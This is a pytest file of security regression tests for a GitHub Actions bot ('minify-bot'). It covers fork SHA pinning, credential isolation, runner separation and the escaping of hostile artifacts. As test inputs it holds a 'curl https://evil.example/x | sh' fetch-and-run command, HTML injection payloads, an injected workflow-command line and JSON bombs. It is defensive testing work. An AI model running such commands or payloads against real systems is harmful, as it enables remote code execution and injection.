"""The ways in, closed: one test per finding of the security review (issue 11), each driving the real
`minify-bot action` subprocess against the GitHub stand-in (workflows: the files themselves).

1. fork PRs need the full SHA; a head that moved after the comment is refused
2. no model code next to a token on untrusted events; a warning for stage check with a token
3. untrusted jobs on their own runners; hash-pinned dependencies for the privileged jobs
4. hostile artifacts never reach issues raw; "Reproduce locally" only from validated fields
5. pull-request runs never close (or count towards closing) main-branch issues
6. malformed input ends with exit 2/3, outputs, summary and an answer in the PR
7. filing failures name their cause; short secrets are not masked; no newline in single-line
   inputs; the bot's label is created or updated
"""

from __future__ import annotations

import os
import re
import subprocess
from pathlib import Path

import pytest
import yaml

from tests.ghstub.action import ROOT, assert_token_not_leaked, bot_comments, filed_issues, pr_comment, reactions
from tests.ghstub.fixtures import BOT_LOGIN, REPO, make_client
from tests.ghstub.rundir import check_row, failing_run, failure_record, passing_run, write_run


def shard_dir(tmp: Path, name: str = "download") -> Path:
    d = tmp / name
    d.mkdir(parents=True, exist_ok=True)
    return d


# ------------------------------------------------------------------ 1. fork SHA pinning


def test_fork_pull_request_needs_the_full_sha(runner, users):
    head = "5eed" + "0" * 36
    number = users.add_pull(None, head_sha=head, author="mallory", head_repo="mallory/models")
    payload = pr_comment(users, "walt-token", f"/minify --models gru --sha {head[:7]}", number=number)
    res = runner("issue_comment", payload, {"stage": "authorize"})
    assert res.rc == 2, res.stdout + res.stderr
    assert res.outputs["authorized"] == "false" and "request" not in res.outputs
    assert reactions(users, payload) == [(BOT_LOGIN, "confused"), (BOT_LOGIN, "eyes")]
    reply = bot_comments(users, number)[-1]["body"]
    assert "comes from a fork" in reply and "full 40-hex" in reply

    ok = pr_comment(users, "walt-token", f"/minify --models gru --sha {head}", number=number)
    res = runner("issue_comment", ok, {"stage": "authorize"})
    assert res.rc == 0, res.stdout + res.stderr
    assert (res.outputs["authorized"], res.outputs["sha"]) == ("true", head)


def test_head_force_pushed_after_the_comment_is_refused(runner, users):
    payload = pr_comment(users, "walt-token", "/minify --models gru")
    number = payload["issue"]["number"]
    users.push(number, "bad" + "1" * 37, force=True, actor="walt", at="2099-01-01T00:00:00Z")
    res = runner("issue_comment", payload, {"stage": "authorize"})
    assert res.rc == 2, res.stdout + res.stderr
    assert res.outputs["authorized"] == "false" and "sha" not in res.outputs
    reply = bot_comments(users, number)[-1]["body"]
    assert "head changed after the comment was written" in reply and "force-push to bad111111111" in reply
    assert "--sha bad" + "1" * 37 in reply  # how to run it after reviewing the new head


# ------------------------------------------------------------------ 2. tokens near model code


def test_stage_all_on_a_comment_is_refused_without_running_anything(runner, users):
    """A /minify comment needs a token to answer and runs the pull request's code: never one job."""
    payload = pr_comment(users, "walt-token", "/minify --models gru")
    res = runner("issue_comment", payload, {"minify": "false"})  # stage: all
    assert res.rc == 2, res.stdout + res.stderr
    assert "stage `all` runs model code and holds no token" in res.stderr
    assert "minify-bot check" not in res.stdout and not (res.run_dir / "results.json").exists()
    assert reactions(users, payload) == [] and bot_comments(users, payload["issue"]["number"]) == []
    assert "Bad input" in res.summary


def _git_checkout(ws: Path, header: str | None = None, url: str | None = None) -> None:
    """A workspace as actions/checkout leaves it (persist-credentials: true keeps the job token)."""
    env = dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1")
    subprocess.run(["git", "init", "-q", str(ws)], check=True, timeout=60, env=env)
    if header:
        subprocess.run(["git", "-C", str(ws), "config", "--local", "http.https://github.com/.extraheader", header],
                       check=True, timeout=60, env=env)
    if url:
        subprocess.run(["git", "-C", str(ws), "remote", "add", "origin", url], check=True, timeout=60, env=env)


CREDENTIALS = {
    # name: (inputs, env, workspace setup, what the refusal names, the secret itself)
    "github-token input": ({"github-token": "ghs_" + "k" * 36}, {}, None, "the github-token input", "k" * 36),
    "token by name": ({}, {"HF_TOKEN": "hf_secret_value_0123456789abcdef"}, None, "$HF_TOKEN", "0123456789abcdef"),
    "index password": ({}, {"PIP_INDEX_URL": "https://ci:s3cretpassw0rd@pypi.internal/simple"}, None,
                       "$PIP_INDEX_URL", "s3cretpassw0rd"),
    "api key value": ({}, {"OPENAI": "sk-proj-" + "a" * 40}, None, "$OPENAI", "a" * 40),
    "docker auth": ({}, {"DOCKER_CFG": '{"auths": {"ghcr.io": {"auth": "dXNlcjpzM2NyZXQ="}}}'}, None, "$DOCKER_CFG",
                    "dXNlcjpzM2NyZXQ="),
    "checkout header": ({}, {}, {"header": "AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA=="},
                        "persisted in", "eC1hY2Nlc3MtdG9rZW46Z2hzX3NlY3JldA=="),
    "remote url": ({}, {}, {"url": "https://x-access-token:ghs_abcdefabcdef@github.com/o/r"}, "persisted in",
                   "ghs_abcdefabcdef"),
}


@pytest.mark.parametrize("stage", ["check", "all"])
@pytest.mark.parametrize("event,payload", [
    ("schedule", {}),
    ("pull_request_target", {"number": 1, "pull_request": {"number": 1}}),
    ("pull_request", {"number": 1, "pull_request": {"number": 1, "head": {"repo": {"full_name": "mallory/models"}},
                                                     "base": {"repo": {"full_name": REPO}}}}),
])
@pytest.mark.parametrize("what", sorted(CREDENTIALS))
def test_model_code_never_runs_in_a_job_that_holds_a_credential(runner, tmp_path, stage, event, payload, what):
    """Stages check and all refuse to start while the step holds any credential, whatever the event:
    the token input, a secret by name, a secret by its value under a neutral name, or the job token
    that actions/checkout kept in .git/config. Nothing runs, and the secret is not printed."""
    inputs, env, git, named, secret = CREDENTIALS[what]
    ws = tmp_path / "ws"
    ws.mkdir()
    if git:
        _git_checkout(ws, **git)
    res = runner(event, payload, {"stage": stage, "models": "gru", **inputs}, workspace=ws, env=env)
    assert res.rc == 2, res.stdout + res.stderr
    assert f"refusing to run model code (stage {stage}) in a job that holds a credential" in res.stderr
    assert named in res.stderr
    assert "minify-bot check" not in res.stdout and not (res.run_dir / "results.json").exists()
    assert_token_not_leaked(res, secret)


# ------------------------------------------------------------------ 3. runners and pinned dependencies


def _workflow(name: str) -> dict:
    return yaml.safe_load((ROOT / ".github" / "workflows" / name).read_text())


def _labels(job: dict) -> frozenset:
    runs_on = job["runs-on"]
    if isinstance(runs_on, dict):
        return frozenset([f"group:{runs_on.get('group')}", *(runs_on.get("labels") or [])])
    return frozenset([runs_on] if isinstance(runs_on, str) else runs_on)


def _runs_on(value) -> frozenset:
    import json

    return _labels({"runs-on": json.loads(value) if value.strip()[:1] in "[{" else value})


def test_untrusted_jobs_run_on_their_own_runners_and_privileged_installs_are_hash_pinned():
    """The reusable workflow's layout: the check job (model code) holds nothing but a read token
    for its checkout, which it never gives the action; the known and report jobs run no model code
    (no checkout, no script), on other runners; the PR check runs on its own runner group, whose
    labels no privileged job's runners have."""
    sweep = _workflow("sweep.yml")
    jobs = sweep["jobs"]
    assert sweep["permissions"] == {} and jobs["check"]["permissions"] == {"contents": "read"}
    assert jobs["known"]["permissions"] == {"issues": "read"}
    for name, job in jobs.items():
        for step in job["steps"]:
            # no shell of the workflow's own, but the report job's download of the zipped artifacts
            # (which takes nothing from an expression: its values come through env)
            assert "run" not in step or (name == "report" and "${{" not in step["run"]), (name, step)
            if str(step.get("uses", "")).startswith("actions/checkout"):
                assert name == "check" and step["with"]["persist-credentials"] is False
            if step.get("uses") == "$/./":
                assert "github-token" not in step.get("with", {}), (name, step)
    assert "--ipc" not in sweep[True]["workflow_call"]["inputs"]["container-options"]["default"]
    report_runners = _runs_on(sweep[True]["workflow_call"]["inputs"]["report-runs-on"]["default"])
    assert jobs["report"]["runs-on"] == jobs["known"]["runs-on"] == "${{ inputs.report-runs-on }}"

    assert jobs["report"]["permissions"] == {"issues": "write", "actions": "read"}, \
        "a sweep's report answers in no pull request (actions: read lists and downloads its artifacts)"

    pr = _workflow("minify-pr.yml")
    pr_jobs = pr["jobs"]
    assert pr["permissions"] == {} and pr_jobs["authorize"]["permissions"] == {"contents": "read",
                                                                              "pull-requests": "write"}
    assert pr_jobs["answer"]["permissions"] == {"issues": "write", "pull-requests": "write", "actions": "read"}
    # the pull request's check is sweep.yml's check job alone, at the authorized commit, caching nothing
    assert pr_jobs["check"]["uses"] == "$/./.github/workflows/sweep.yml" and pr_jobs["check"]["cache-mode"] == "none"
    assert pr_jobs["check"]["with"]["report"] is False and pr_jobs["check"]["with"]["reuse-known"] is False
    assert pr_jobs["check"]["with"]["ref"] == "${{ needs.authorize.outputs.sha }}"
    for name, job in pr_jobs.items():
        for step in job.get("steps", []):
            # the answer job's zipped download, as sweep.yml's report job has it (values through env)
            assert "run" not in step or (name == "answer" and "${{" not in step["run"]), (name, step)
            assert "github-token" not in step.get("with", {}), (name, step)
    comment = _workflow("minify-comment.yml")["jobs"]
    nightly = _workflow("nightly.yml")["jobs"]["sweep"]
    assert comment["minify"]["uses"] == "$/./.github/workflows/minify-pr.yml"
    assert comment["minify"]["cache-mode"] == "none"
    assert nightly["uses"] == "$/./.github/workflows/sweep.yml"
    assert "pull-requests" not in nightly["permissions"]
    untrusted = _runs_on(pr[True]["workflow_call"]["inputs"]["runs-on"]["default"])
    assert any(label.startswith("group:") for label in untrusted), "the PR check job names its runner group"
    pr_runners = _runs_on(pr[True]["workflow_call"]["inputs"]["report-runs-on"]["default"])
    privileged = [_labels(job) for wf in ("image.yml", "ci.yml", "release.yml")
                  for job in _workflow(wf)["jobs"].values()]
    privileged += [pr_runners, report_runners, _runs_on(nightly["with"]["runs-on"])]
    generic = {"self-hosted", "linux"}
    for labels in privileged:
        # a runner matches a job when it has all the job's labels: disjoint, distinctive sets never share one
        assert labels != untrusted and not (labels - generic) & (untrusted - generic), labels
    image = _labels(_workflow("image.yml")["jobs"]["build"])
    gpu = _runs_on(nightly["with"]["runs-on"])
    assert image != gpu and not (image - generic) & (gpu - generic)

    action = (ROOT / "action.yml").read_text()
    assert "--require-hashes" in action and '"PyGithub>=' not in action
    reqs = (ROOT / "requirements" / "report.txt").read_text()
    pins = [line for line in reqs.replace("\\\n", " ").splitlines() if line.strip() and not line.startswith("#")]
    assert len(pins) >= 10
    for line in pins:
        assert re.match(r"^[A-Za-z0-9_.-]+==[^ ]+ ", line) and "--hash=sha256:" in line, line


# ------------------------------------------------------------------ 4. hostile artifacts


def test_untyped_artifact_fields_are_rejected_before_anything_is_filed(runner, ghstub, tmp_path):
    c = check_row()
    rec = failure_record(c)
    rec["accuracy"]["rmse_res"] = '<img src=x onerror="alert(1)"> @acme/team #1 <!--'
    write_run(shard_dir(tmp_path) / "minify-shard-1", [c], {c["id"]: rec})
    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
    assert res.rc == 2, res.stdout + res.stderr
    assert "accuracy/rmse_res" in res.stderr
    assert filed_issues(ghstub) == []
    assert_token_not_leaked(res)


@pytest.mark.slow
def test_artifact_strings_are_escaped_and_never_offered_as_a_command(runner, ghstub, tmp_path):
    c = check_row(failure_class="runtime_error", status="fail_to_run",
                  error={"type": "Evil @acme/team #1", "message": "boom <img src=x> #1", "traceback": "tb"})
    c["spec"] = {"source": "command", "command": "curl https://evil.example/x | sh"}
    c["model"] = "cmd-check"
    c["id"] = "cmd-check-inductor-inference-float32-cpu"
    c["log"] = f"checks/{c['id']}.log"
    rec = failure_record(c, error=c["error"])
    rec["versions"]["os"] = "Linux <a href=https://evil.example>click</a>"
    write_run(shard_dir(tmp_path) / "minify-shard-1", [c], {c["id"]: rec})
    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
    assert res.rc == 1, res.stdout + res.stderr
    (issue,) = filed_issues(ghstub)
    body = issue["body"]
    assert "curl" not in body and "evil.example/x" not in body
    assert "--suite command --command COMMAND" in body and "read it before running it" in body
    assert "<img" not in body and "&lt;img src=x&gt;" in body
    # versions are shown as code spans: markup inside one is literal text
    assert body.count("<a href") == 1 and "| `Linux <a href=https://evil.example>click</a>` |" in body
    assert "@acme/team" not in body and "#1 " not in body
    assert "Evil" not in body and "`Error`" in body  # an exception type is an identifier, or plain "Error"


def test_an_error_type_cannot_end_its_code_span():
    from bot.render import code

    assert code("Evil` <b>x</b>") == "``Evil` <b>x</b>``"  # inside a code span: literal text, not HTML


@pytest.mark.slow
def test_update_comments_escape_what_the_artifact_says(runner, ghstub, tmp_path):
    failing_run(shard_dir(tmp_path, "d1") / "minify-shard-1")
    assert runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "d1")}).rc == 1
    (issue,) = filed_issues(ghstub)
    c = check_row(model="x@acme/team")
    c["id"] = "x-inductor-inference-float32-cpu"
    c["log"] = f"checks/{c['id']}.log"
    write_run(shard_dir(tmp_path, "d2") / "minify-shard-1", [c], {c["id"]: failure_record(c)},
              started="2026-11-23T03:00:00Z")
    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "d2")})
    assert res.rc == 1, res.stdout + res.stderr
    comments = ghstub.comments(number=issue["number"])
    assert comments and "newly affected" in comments[-1]["body"]
    assert "@acme/team" not in comments[-1]["body"] and "@\u200bacme/team" in comments[-1]["body"]


# ------------------------------------------------------------------ 5. PR runs and main-branch issues


@pytest.mark.slow
def test_pull_request_runs_never_close_main_branch_issues(runner, users, tmp_path):
    failing_run(shard_dir(tmp_path, "main") / "minify-shard-1")
    assert runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "main")}).rc == 1
    (issue,) = filed_issues(users)
    payload = pr_comment(users, "walt-token", "/minify --models mlp_relu")
    auth = runner("issue_comment", payload, {"stage": "authorize"})
    assert auth.rc == 0, auth.stdout + auth.stderr
    for day in (23, 24, 25):  # three passing runs on the unmerged PR: more than close-after (2)
        passing_run(shard_dir(tmp_path, f"pr{day}") / "minify-pr-1", started=f"2026-11-{day}T03:00:00Z")
        res = runner("issue_comment", payload, {
            "stage": "report", "request": auth.outputs["request"], "shards": str(tmp_path / f"pr{day}"),
            "check-result": "success", "pr-issues": "true"})
        assert res.rc == 0, res.stdout + res.stderr
    (after,) = filed_issues(users)
    assert after["state"] == "open" and after["body"] == issue["body"]
    assert not [w for w in users.writes() if w.method == "PATCH" and w.path.endswith(f"/issues/{issue['number']}")]


# ------------------------------------------------------------------ 6. malformed input


def test_nesting_bomb_payload_exits_2_with_outputs_and_summary(runner):
    res = runner("issue_comment", "[" * 100_000 + "]" * 100_000, {})
    assert res.rc == 2, res.stdout + res.stderr
    assert "Traceback" not in res.stdout + res.stderr
    assert "nested 100000 levels deep" in res.stderr
    assert res.outputs["exit-code"] == "2" and "Bad input" in res.summary


def test_wrong_payload_types_exit_2_and_are_answered_in_the_pull_request(runner, users):
    payload = pr_comment(users, "walt-token", "/minify --models gru")
    payload["comment"]["author_association"] = 7
    res = runner("issue_comment", payload, {"stage": "authorize"})
    assert res.rc == 2, res.stdout + res.stderr
    assert "Traceback" not in res.stdout + res.stderr
    assert "author_association is not a string" in res.stderr
    assert res.outputs["exit-code"] == "2" and "Bad input" in res.summary
    assert ("minify-bot", "confused") in reactions(users, payload)
    assert "did not finish" in bot_comments(users, payload["issue"]["number"])[-1]["body"]


def test_number_bomb_in_a_shard_exits_2(runner, ghstub, tmp_path):
    d = failing_run(shard_dir(tmp_path) / "minify-shard-1")
    text = (d / "results.json").read_text().replace('"batch_size": 4', '"batch_size": ' + "9" * 5000)
    (d / "results.json").write_text(text)
    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
    assert res.rc == 2, res.stdout + res.stderr
    assert "Traceback" not in res.stdout + res.stderr and "5000 digits" in res.stderr
    assert res.outputs["exit-code"] == "2" and filed_issues(ghstub) == []


def test_an_unexpected_error_exits_3_with_outputs_summary_and_an_answer(runner, users, tmp_path):
    failing_run(shard_dir(tmp_path) / "minify-shard-1")
    payload = pr_comment(users, "walt-token", "/minify --models mlp_relu")
    auth = runner("issue_comment", payload, {"stage": "authorize"})
    assert auth.rc == 0, auth.stdout + auth.stderr
    # a run directory that cannot be created: nothing the bot checks for, so an unexpected OSError
    res = runner("issue_comment", payload, {"stage": "report", "request": auth.outputs["request"],
                                            "shards": str(tmp_path / "download"), "check-result": "success",
                                            "out": "/dev/null/minify-out"})
    assert res.rc == 3, res.stdout + res.stderr
    assert "Traceback" not in res.stdout + res.stderr
    assert "::error title=minify-bot%3A internal error::internal error: NotADirectoryError" in res.stdout
    assert res.outputs["exit-code"] == "3" and "Internal error" in res.summary
    assert reactions(users, payload) == [(BOT_LOGIN, "confused"), (BOT_LOGIN, "eyes")]
    last_comment = bot_comments(users, payload["issue"]["number"])[-1]["body"]
    assert "`/minify` did not finish: an internal error stopped it" in last_comment
    assert_token_not_leaked(res)


# ------------------------------------------------------------------ 7. misleading output


def test_a_filing_failure_names_its_cause(runner, ghstub, tmp_path):
    failing_run(shard_dir(tmp_path) / "minify-shard-1")
    ghstub.add_user("reader", token="reader-token-1234", permission="read")
    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")}, token="reader-token-1234")
    assert res.rc == 3, res.stdout + res.stderr
    error = [line for line in res.stdout.splitlines() if line.startswith("::error")]
    assert error and "filing issues failed" in error[-1] and "HTTP 403" in error[-1]
    assert "Nothing to file" not in res.summary and "Filing failed" in res.summary and "HTTP 403" in res.summary
    assert res.outputs["failure-count"] == "1"
    assert_token_not_leaked(res, "reader-token-1234")


def test_short_secret_values_are_not_masked_in_outputs(runner, tmp_path):
    shard = failing_run(shard_dir(tmp_path) / "minify-shard-1")
    assert shard.exists()
    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download"), "dry-run": "true"},
                 env={"MY_API_KEY": "1"})
    assert res.rc == 1, res.stdout + res.stderr
    assert res.outputs["failure-count"] == "1" and res.outputs["regression-count"] == "1"
    assert "::add-mask::1\n" not in res.stdout


def test_a_newline_in_a_single_line_input_is_rejected(runner):
    res = runner("schedule", {}, {"stage": "check", "models": "gru", "backend": "inductor\n::error::pwned"}, token="")
    assert res.rc == 2, res.stdout + res.stderr
    assert not [line for line in res.stdout.splitlines() if line.startswith("::error::pwned")]
    assert "input 'backend' must be a single line" in res.stderr
    assert "minify-bot check" not in res.stdout


@pytest.mark.slow
def test_the_bot_label_is_created_or_updated(runner, ghstub, tmp_path):
    make_client(ghstub).get_repo(REPO).create_label("minify-bot", "ededed", "someone else's")
    failing_run(shard_dir(tmp_path) / "minify-shard-1")
    res = runner("schedule", {}, {"stage": "report", "shards": str(tmp_path / "download")})
    assert res.rc == 1, res.stdout + res.stderr
    (label,) = [lb for lb in ghstub.labels() if lb["name"] == "minify-bot"]
    assert (label["color"], label["description"]) == ("5319e7", "Filed and maintained by minify-bot")


def test_the_shipped_workflows_hold_least_privilege_and_cap_artifacts_before_extraction():
    """The nightly's and /minify's report job never held `pull-requests: write` for anything (it
    comments through the issues API); the check job uploads the action's regular-files copy of the
    run directory, never the run directory itself (upload-artifact follows links); the report job
    downloads the shards zipped and the bot unpacks them within its caps (download-artifact extracts
    everything first)."""
    sweep = _workflow("sweep.yml")
    jobs = sweep["jobs"]
    assert jobs["report"]["permissions"] == {"issues": "write", "actions": "read"}
    assert "pull-requests" not in _workflow("nightly.yml")["jobs"]["sweep"]["permissions"]
    for caller, job in (("nightly.yml", "sweep"), ("minify-comment.yml", "minify")):
        assert _workflow(caller)["jobs"][job]["permissions"].get("actions") == "read", caller
    answer = _workflow("minify-pr.yml")["jobs"]["answer"]   # /minify's report: zipped too
    assert not any(str(s.get("uses", "")).startswith("actions/download-artifact") for s in answer["steps"])
    assert "536870912" in next(s for s in answer["steps"] if "run" in s)["run"]
    upload = [s for s in jobs["check"]["steps"] if str(s.get("uses", "")).startswith("actions/upload-artifact")]
    assert [s["with"]["path"] for s in upload] == ["${{ steps.check.outputs.upload-dir }}"]
    assert not any(str(s.get("uses", "")).startswith("actions/download-artifact") for s in jobs["report"]["steps"])
    download = next(s for s in jobs["report"]["steps"] if "run" in s)
    assert "/zip" in download["run"] and "536870912" in download["run"]
    shards = next(s for s in jobs["report"]["steps"] if s.get("uses") == "$/./")["with"]["shards"]
    assert shards == download["env"]["DEST"]   # the bot reads (and unpacks) where the zips are
